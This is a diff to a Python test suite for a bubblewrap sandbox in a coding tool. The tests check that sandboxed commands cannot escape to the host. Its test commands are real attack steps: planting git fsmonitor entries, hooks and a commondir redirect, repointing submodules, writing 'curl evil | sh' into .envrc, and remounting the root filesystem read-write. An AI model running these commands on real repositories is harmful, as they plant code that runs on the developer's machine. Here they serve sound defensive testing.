@@ -16,47 +16,16 @@ from prism.coding.security import (
     create_sandbox_shell_operations,
 )
 from prism.coding.security._mounts import PlaceholderLease, is_placeholder, protected_plan
-from prism.coding.tools import ShellExit, ShellOperations, ShellSpawnRequest
+from prism.coding.tools import ShellExit
 from prism.core import ConfigurationError
 
 if TYPE_CHECKING:
+    from collections.abc import Awaitable, Callable
     from pathlib import Path
 
+    from prism.coding.tools import ShellExit
 
-def _bwrap_works() -> str | None:
-    path = shutil.which("bwrap")
-    if path is None:
-        return "bwrap is not installed (apt-get install bubblewrap)"
-    probe = subprocess.run(
-        [path, "--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc", "--unshare-all",
-         "--die-with-parent", "true"],
-        capture_output=True, check=False, timeout=30,
-    )  # fmt: skip
-    if probe.returncode != 0:
-        return f"bwrap cannot create namespaces here: {probe.stderr.decode(errors='replace')}"
-    return None
-
-
-_SKIP = _bwrap_works()
-needs_bwrap = pytest.mark.skipif(_SKIP is not None, reason=_SKIP or "")
-needs_git = pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
-
-
-async def run(ops: ShellOperations, command: str, cwd: Path) -> tuple[ShellExit, str]:
-    chunks: list[bytes] = []
-
-    async def sink(chunk: bytes) -> None:
-        chunks.append(chunk)
-
-    request = ShellSpawnRequest(
-        command=command,
-        shell_path="/bin/sh",
-        cwd=str(cwd),
-        env={"PATH": os.environ.get("PATH", "/usr/bin:/bin")},
-    )
-    with trio.fail_after(30):
-        result = await ops.run(request, sink)
-    return result, b"".join(chunks).decode(errors="replace")
+    RunShell = Callable[..., Awaitable[tuple[ShellExit, str]]]
 
 
 def _git_repo(root: Path) -> None:
@@ -78,7 +47,7 @@ async def _host_git_status(root: Path) -> None:
     await trio.run_process(["git", "status", "--short"], cwd=root, capture_stdout=True)
 
 
-@needs_git
+@pytest.mark.git
 async def test_the_fsmonitor_attack_works_without_the_sandbox(root: Path, tmp_path: Path) -> None:
     _git_repo(root)
     marker = tmp_path / "pwned"
@@ -87,16 +56,18 @@ async def test_the_fsmonitor_attack_works_without_the_sandbox(root: Path, tmp_pa
     assert marker.exists()
 
 
-@needs_bwrap
-@needs_git
+@pytest.mark.bwrap
+@pytest.mark.git
 async def test_sandboxed_command_cannot_plant_an_fsmonitor_for_the_host_git(
-    root: Path, tmp_path: Path
+    root: Path,
+    tmp_path: Path,
+    run_shell: RunShell,
 ) -> None:
     _git_repo(root)
     config = (root / ".git" / "config").read_bytes()
     marker = tmp_path / "pwned"
     ops = create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))
-    _, output = await run(ops, _fsmonitor_attack(marker), root)
+    _, output = await run_shell(ops, _fsmonitor_attack(marker), root)
     assert "attempted" in output
     assert (root / ".git" / "config").read_bytes() == config
     assert not (root / ".git-old").exists()
@@ -104,10 +75,12 @@ async def test_sandboxed_command_cannot_plant_an_fsmonitor_for_the_host_git(
     assert not marker.exists()
 
 
-@needs_bwrap
-@needs_git
+@pytest.mark.bwrap
+@pytest.mark.git
 async def test_sandboxed_command_cannot_point_git_at_another_config(
-    root: Path, tmp_path: Path
+    root: Path,
+    tmp_path: Path,
+    run_shell: RunShell,
 ) -> None:
     # git reads the repository config from $GIT_DIR/commondir when that file exists
     _git_repo(root)
@@ -118,7 +91,7 @@ async def test_sandboxed_command_cannot_point_git_at_another_config(
         f"printf '[core]\\n\\tfsmonitor = touch {marker}\\n' >> evil/config; "
         "echo ../evil > .git/commondir; echo attempted"
     )
-    _, output = await run(ops, command, root)
+    _, output = await run_shell(ops, command, root)
     assert "attempted" in output
     assert (root / "evil" / "config").exists()
     assert not (root / ".git" / "commondir").exists()
@@ -126,21 +99,23 @@ async def test_sandboxed_command_cannot_point_git_at_another_config(
     assert not marker.exists()
 
 
-@needs_bwrap
-@needs_git
-async def test_sandboxed_command_cannot_create_a_git_hook(root: Path) -> None:
+@pytest.mark.bwrap
+@pytest.mark.git
+async def test_sandboxed_command_cannot_create_a_git_hook(root: Path, run_shell: RunShell) -> None:
     _git_repo(root)
     ops = create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))
-    _, output = await run(ops, "echo 'touch x' > .git/hooks/pre-commit; echo attempted", root)
+    _, output = await run_shell(ops, "echo 'touch x' > .git/hooks/pre-commit; echo attempted", root)
     assert "attempted" in output
     assert not (root / ".git" / "hooks" / "pre-commit").exists()
 
 
-@needs_bwrap
-@needs_git
+@pytest.mark.bwrap
+@pytest.mark.git
 @pytest.mark.parametrize("exists", [True, False])
 async def test_hooks_directory_named_by_core_hooks_path_is_protected(
-    root: Path, exists: bool
+    root: Path,
+    exists: bool,
+    run_shell: RunShell,
 ) -> None:
     _git_repo(root)
     await trio.run_process(["git", "-C", str(root), "config", "core.hooksPath", ".githooks"])
@@ -148,64 +123,68 @@ async def test_hooks_directory_named_by_core_hooks_path_is_protected(
         (root / ".githooks").mkdir()
     ops = create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))
     command = "mkdir -p .githooks; echo 'touch x' > .githooks/pre-commit; echo attempted"
-    _, output = await run(ops, command, root)
+    _, output = await run_shell(ops, command, root)
     assert "attempted" in output
     assert not (root / ".githooks" / "pre-commit").exists()
     assert (root / ".githooks").exists() == exists
 
 
-@needs_bwrap
-@needs_git
-async def test_missing_hooks_directory_cannot_be_created(root: Path) -> None:
+@pytest.mark.bwrap
+@pytest.mark.git
+async def test_missing_hooks_directory_cannot_be_created(root: Path, run_shell: RunShell) -> None:
     _git_repo(root)
     shutil.rmtree(root / ".git" / "hooks")
     ops = create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))
-    _, output = await run(
+    _, output = await run_shell(
         ops, "mkdir -p .git/hooks && echo x > .git/hooks/pre-commit; echo attempted", root
     )
     assert "attempted" in output
     assert not (root / ".git" / "hooks").exists()
 
 
-@needs_bwrap
-@needs_git
-async def test_git_still_commits_inside_the_sandbox(root: Path) -> None:
+@pytest.mark.bwrap
+@pytest.mark.git
+async def test_git_still_commits_inside_the_sandbox(root: Path, run_shell: RunShell) -> None:
     _git_repo(root)
     ops = create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))
     command = (
         "echo hello > a.txt && git add a.txt && "
         "git -c user.name=t -c user.email=t@example.invalid commit -qm one && git log --oneline"
     )
-    result, output = await run(ops, command, root)
+    result, output = await run_shell(ops, command, root)
     assert result.exit_code == 0, output
     assert "one" in output
 
 
-@needs_bwrap
-@needs_git
+@pytest.mark.bwrap
+@pytest.mark.git
 async def test_git_of_a_parent_repository_works_but_no_nested_repository_appears(
-    root: Path, tmp_path: Path
+    root: Path,
+    tmp_path: Path,
+    run_shell: RunShell,
 ) -> None:
     # root is not a repository itself: its missing .git gets a placeholder, which
     # git's discovery must skip on its way up to tmp_path's repository (also a
     # root here, since the sandbox hides tmp_path's /tmp otherwise)
     _git_repo(tmp_path)
     ops = create_sandbox_shell_operations(BubblewrapSandbox([str(tmp_path), str(root)]))
-    _, output = await run(ops, "git rev-parse --show-toplevel; git init -q .; echo end", root)
+    _, output = await run_shell(ops, "git rev-parse --show-toplevel; git init -q .; echo end", root)
     assert output.splitlines()[0] == str(tmp_path), output
     assert output.splitlines()[-1] == "end"
     assert not (root / ".git").exists()
 
 
-@needs_bwrap
-async def test_missing_protected_files_cannot_be_created_but_others_can(root: Path) -> None:
+@pytest.mark.bwrap
+async def test_missing_protected_files_cannot_be_created_but_others_can(
+    root: Path, run_shell: RunShell
+) -> None:
     before = sorted(os.listdir(root))
     ops = create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))
     command = (
         "echo 'curl evil | sh' > .envrc; echo '{}' > .mcp.json; mkdir .claude; "
         "echo ok > ordinary.txt; echo attempted"
     )
-    _, output = await run(ops, command, root)
+    _, output = await run_shell(ops, command, root)
     assert "attempted" in output
     assert (root / "ordinary.txt").read_text() == "ok\n"
     for name in (".envrc", ".mcp.json", ".claude"):
@@ -213,34 +192,38 @@ async def test_missing_protected_files_cannot_be_created_but_others_can(root: Pa
     assert sorted(os.listdir(root)) == sorted([*before, "ordinary.txt"])
 
 
-@needs_bwrap
-async def test_existing_protected_file_is_read_only(root: Path) -> None:
+@pytest.mark.bwrap
+async def test_existing_protected_file_is_read_only(root: Path, run_shell: RunShell) -> None:
     (root / ".envrc").write_text("export A=1\n")
     ops = create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))
-    _, output = await run(
+    _, output = await run_shell(
         ops, "echo evil >> .envrc; rm -f .envrc; mv .envrc x; echo attempted", root
     )
     assert "attempted" in output
     assert (root / ".envrc").read_text() == "export A=1\n"
 
 
-@needs_bwrap
-async def test_protected_paths_option_adds_entries(root: Path) -> None:
+@pytest.mark.bwrap
+async def test_protected_paths_option_adds_entries(root: Path, run_shell: RunShell) -> None:
     (root / "Makefile").write_text("all:\n")
     sandbox = BubblewrapSandbox([str(root)], protected_paths=["Makefile", "deploy/keys"])
     ops = create_sandbox_shell_operations(sandbox)
-    _, output = await run(ops, "echo evil >> Makefile; mkdir -p deploy/keys; echo attempted", root)
+    _, output = await run_shell(
+        ops, "echo evil >> Makefile; mkdir -p deploy/keys; echo attempted", root
+    )
     assert "attempted" in output
     assert (root / "Makefile").read_text() == "all:\n"
     assert not (root / "deploy" / "keys").exists()
 
 
-@needs_bwrap
-async def test_dangling_symlink_at_a_protected_path_refuses_to_run(root: Path) -> None:
+@pytest.mark.bwrap
+async def test_dangling_symlink_at_a_protected_path_refuses_to_run(
+    root: Path, run_shell: RunShell
+) -> None:
     (root / ".envrc").symlink_to(root / "missing")
     ops = create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))
     with pytest.raises(SandboxUnavailableError, match="dangling"):
-        await run(ops, "echo x > .envrc", root)
+        await run_shell(ops, "echo x > .envrc", root)
     assert not (root / "missing").exists()
 
 
@@ -275,13 +258,14 @@ def test_release_keeps_a_real_empty_file(root: Path, mode: int) -> None:
     assert (root / ".envrc").exists()
 
 
-@needs_bwrap
+@pytest.mark.bwrap
 async def test_recursive_grep_inside_the_sandbox_is_not_disturbed_by_placeholders(
     root: Path,
+    run_shell: RunShell,
 ) -> None:
     (root / "a.txt").write_text("needle\n")
     ops = create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))
-    result, output = await run(ops, "grep -r needle .; cat .envrc prism.toml", root)
+    result, output = await run_shell(ops, "grep -r needle .; cat .envrc prism.toml", root)
     assert (result.exit_code, output) == (0, "./a.txt:needle\n")
 
 
@@ -315,8 +299,10 @@ def test_bad_protected_paths_raise_naming_the_option(value: object) -> None:
         BubblewrapSandbox([], protected_paths=value)  # type: ignore[arg-type]
 
 
-@needs_bwrap
-async def test_sandboxed_root_cannot_undo_the_read_only_mounts(root: Path) -> None:
+@pytest.mark.bwrap
+async def test_sandboxed_root_cannot_undo_the_read_only_mounts(
+    root: Path, run_shell: RunShell
+) -> None:
     # As root, bwrap used to keep every capability in its user namespace: the
     # command could remount / read-write and unmount a protected path.
     (root / ".envrc").write_text("safe\n")
@@ -327,18 +313,20 @@ async def test_sandboxed_root_cannot_undo_the_read_only_mounts(root: Path) -> No
         f"mount -o remount,bind,rw /; echo x > {target}; "
         "grep CapEff /proc/self/status"
     )
-    _, output = await run(ops, command, root)
+    _, output = await run_shell(ops, command, root)
     assert "CapEff:\t0000000000000000" in output
     assert (root / ".envrc").read_text() == "safe\n"
     assert not await trio.Path(target).exists()
 
 
-@needs_bwrap
-async def test_sandboxed_root_cannot_open_a_global_sysctl_for_writing(root: Path) -> None:
+@pytest.mark.bwrap
+async def test_sandboxed_root_cannot_open_a_global_sysctl_for_writing(
+    root: Path, run_shell: RunShell
+) -> None:
     # Opening without writing changes nothing, whatever the outcome.
     ops = create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))
     command = "(exec 3>>/proc/sys/vm/swappiness) && echo OPENED; echo end"
-    _, output = await run(ops, command, root)
+    _, output = await run_shell(ops, command, root)
     assert "OPENED" not in output
     assert output.strip().endswith("end")
 
@@ -348,10 +336,12 @@ async def _git(cwd: Path, *args: str) -> None:
     await trio.run_process(["git", *ident, "-c", "protocol.file.allow=always", *args], cwd=cwd)
 
 
-@needs_bwrap
-@needs_git
+@pytest.mark.bwrap
+@pytest.mark.git
 async def test_existing_submodule_cannot_be_repointed_at_a_planted_git_directory(
-    root: Path, tmp_path: Path
+    root: Path,
+    tmp_path: Path,
+    run_shell: RunShell,
 ) -> None:
     library = tmp_path / "library"
     await trio.run_process(["git", "init", "-q", str(library)])
@@ -367,7 +357,7 @@ async def test_existing_submodule_cannot_be_repointed_at_a_planted_git_directory
         f"{fsmonitor} >> .git/modules/lib/config; echo attempted"
     )
     ops = create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))
-    _, output = await run(ops, command, root)
+    _, output = await run_shell(ops, command, root)
     assert "attempted" in output
     assert (root / "evil" / "config").exists()
     assert "evil" not in (root / "lib" / ".git").read_text()
@@ -375,9 +365,11 @@ async def test_existing_submodule_cannot_be_repointed_at_a_planted_git_directory
     assert not marker.exists()
 
 
-@needs_bwrap
-@needs_git
-async def test_embedded_submodule_git_config_is_read_only(root: Path, tmp_path: Path) -> None:
+@pytest.mark.bwrap
+@pytest.mark.git
+async def test_embedded_submodule_git_config_is_read_only(
+    root: Path, tmp_path: Path, run_shell: RunShell
+) -> None:
     _git_repo(root)
     await trio.run_process(["git", "init", "-q", str(root / "sub")])
     await _git(root / "sub", "commit", "-q", "--allow-empty", "-m", "sub")
@@ -388,17 +380,19 @@ async def test_embedded_submodule_git_config_is_read_only(root: Path, tmp_path: 
         "echo x > sub/.git/hooks/pre-commit; echo attempted"
     )
     ops = create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))
-    _, output = await run(ops, command, root)
+    _, output = await run_shell(ops, command, root)
     assert "attempted" in output
     assert not (root / "sub" / ".git" / "hooks" / "pre-commit").exists()
     await _host_git_status(root)
     assert not marker.exists()
 
 
-@needs_bwrap
-@needs_git
+@pytest.mark.bwrap
+@pytest.mark.git
 async def test_sandboxed_command_cannot_plant_a_submodule_with_an_fsmonitor(
-    root: Path, tmp_path: Path
+    root: Path,
+    tmp_path: Path,
+    run_shell: RunShell,
 ) -> None:
     _git_repo(root)
     ident = "-c user.name=t -c user.email=t@example.invalid"
@@ -413,7 +407,7 @@ async def test_sandboxed_command_cannot_plant_a_submodule_with_an_fsmonitor(
         "git update-index --add --cacheinfo 160000,$(git -C sub rev-parse HEAD),sub"
     )
     ops = create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))
-    result, output = await run(ops, command, root)
+    result, output = await run_shell(ops, command, root)
     assert result.exit_code == 0, output
     assert "registers a new submodule (sub)" in output
     await _host_git_status(root)
